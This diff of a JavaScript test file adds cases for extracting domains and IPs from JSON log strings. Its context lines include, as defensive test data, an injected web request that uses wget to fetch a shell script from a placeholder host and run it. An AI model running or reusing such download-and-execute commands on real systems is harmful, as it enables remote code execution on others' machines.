@@ -99,6 +99,25 @@ describe('forms that logs write', () => {
     ]);
   });
 
+  it('names in the strings of JSON', () =>
+    assertFound(
+      [
+        ['{"m":"tried \\"cloud.test.com\\" as host"}', ['domain cloud.test.com']],
+        [
+          '{"name":"sitea.me.","ip":"8.8.8.8","host":"dns.google"}',
+          ['domain sitea.me', 'ip 8.8.8.8', 'domain dns.google'],
+        ],
+        ['{"rdns":"pool-1.site-a.com.py","mail":"j@site-a.la"}', ['domain pool-1.site-a.com.py', 'domain site-a.la']],
+        ['{"m":"64 bytes from gw.site-a.net (192.0.2.4)"}', ['domain gw.site-a.net', 'ip 192.0.2.4']],
+        ['{"c":"DC.corp.local","n":"Anns-MacBook.local"}', ['domain dc.corp.local', 'domain anns-macbook.local']],
+        [
+          '{"socket.io":"socket.io","a":"user.name","b":"app.test.py","c":"import x from \'socket.io\'","event.code":1}',
+          [],
+        ],
+      ],
+      'json',
+    ));
+
   it('what a command in a request downloads', () => {
     assert.deepEqual(raws('GET /shell?cd+/tmp;wget+http://192.0.2.4/a.sh;sh+/tmp/a.sh HTTP/1.1'), [
       'http://192.0.2.4/a.sh',
